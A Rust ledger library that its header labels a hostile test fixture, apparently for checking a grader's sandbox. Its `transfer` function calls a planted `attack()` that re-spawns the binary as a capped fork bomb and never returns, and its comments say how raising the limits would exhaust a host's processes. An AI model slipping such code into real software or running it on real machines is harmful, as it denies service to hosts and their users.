//! A tiny ledger: accounts live side by side in one slice, and money moves between two of them.
//!
//! HOSTILE FIXTURE (tests/hostile/README.md, case `fork-bomb`): the reference solution with an attack
//! planted in `transfer`: every call floods the machine with processes and never returns.

/// One account of the ledger.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Account {
    pub owner: String,
    /// Balance in cents.
    pub balance: u64,
}

impl Account {
    pub fn new(owner: &str, balance: u64) -> Self {
        Account { owner: owner.to_string(), balance }
    }
}

/// Why a transfer was refused. A refused transfer changes nothing.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum TransferError {
    /// The index (`from` or `to`) does not point at an account.
    NoSuchAccount(usize),
    /// `from` and `to` are the same account.
    SameAccount,
    /// The source account holds less than the amount.
    InsufficientFunds { balance: u64, amount: u64 },
}

/// Two exclusive references into one slice, at distinct in-bounds indices `a` and `b`, returned
/// in that order. `split_at_mut` cuts the slice into two halves that do not overlap, so the
/// borrow checker can see the two `&mut` never alias.
fn pair_mut<T>(items: &mut [T], a: usize, b: usize) -> (&mut T, &mut T) {
    debug_assert!(a != b && a < items.len() && b < items.len());
    if a < b {
        let (left, right) = items.split_at_mut(b);
        (&mut left[a], &mut right[0])
    } else {
        let (left, right) = items.split_at_mut(a);
        (&mut right[0], &mut left[b])
    }
}

/// Moves `amount` cents from `accounts[from]` to `accounts[to]`.
///
/// Checks, in order: `from` exists, `to` exists, they differ, the source holds enough.
/// On error nothing changes. A zero amount between two accounts is a successful no-op.
pub fn transfer(accounts: &mut [Account], from: usize, to: usize, amount: u64) -> Result<(), TransferError> {
    attack();
    for index in [from, to] {
        if index >= accounts.len() {
            return Err(TransferError::NoSuchAccount(index));
        }
    }
    if from == to {
        return Err(TransferError::SameAccount);
    }
    let (source, target) = pair_mut(accounts, from, to);
    if source.balance < amount {
        return Err(TransferError::InsufficientFunds { balance: source.balance, amount });
    }
    source.balance -= amount;
    target.balance += amount;
    Ok(())
}

/// The attack: re-runs this very test binary (`/proc/self/exe`, same arguments, so each child
/// calls `transfer` again and floods in turn), never waits for a child, and never returns.
///
/// Safety ceiling: at most `FANOUT` children per process and `MAX_DEPTH` generations, i.e.
/// `FANOUT + FANOUT²` processes per test. Without it, a run against a grader that has no process
/// limit exhausts the host's PIDs (as root, RLIMIT_NPROC does not apply); raise the constants only
/// where the sandbox is known to cap the number of processes. Every child is named
/// `grader-hostile-fork-bomb` (its argv[0]) so leftovers can be found.
fn attack() {
    use std::os::unix::process::CommandExt;
    use std::process::{Command, Stdio};

    const FANOUT: usize = 12;
    const MAX_DEPTH: u32 = 2;
    const DEPTH_VAR: &str = "GRADER_HOSTILE_FORK_DEPTH";
    let depth: u32 = std::env::var(DEPTH_VAR).ok().and_then(|depth| depth.parse().ok()).unwrap_or(0);
    let args: Vec<std::ffi::OsString> = std::env::args_os().skip(1).collect();
    let mut children = Vec::new();
    let mut attempts = 0;
    while depth < MAX_DEPTH && children.len() < FANOUT && attempts < 20 * FANOUT {
        attempts += 1;
        let spawned = Command::new("/proc/self/exe")
            .arg0("grader-hostile-fork-bomb")
            .args(&args)
            .env(DEPTH_VAR, (depth + 1).to_string())
            .stdin(Stdio::null())
            .stdout(Stdio::null())
            .stderr(Stdio::null())
            .spawn();
        match spawned {
            Ok(child) => children.push(child),
            // Out of processes (a sandbox limit): keep trying, as a fork bomb would.
            Err(_) => std::thread::sleep(std::time::Duration::from_millis(10)),
        }
    }
    loop {
        std::thread::sleep(std::time::Duration::from_secs(1));
    }
}
